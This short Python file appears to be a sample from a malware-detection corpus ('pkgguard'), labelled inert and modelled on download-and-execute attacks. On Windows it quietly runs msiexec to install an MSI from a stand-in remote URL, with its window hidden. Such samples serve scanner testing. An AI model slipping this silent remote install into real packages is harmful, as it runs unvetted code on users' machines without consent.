# pkgguard corpus 489 (download-execute), modelled on [empirical]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(["msiexec", "/q", "/i", "https://cdn-assets.example/agent.msi"], creationflags=0x08000000)
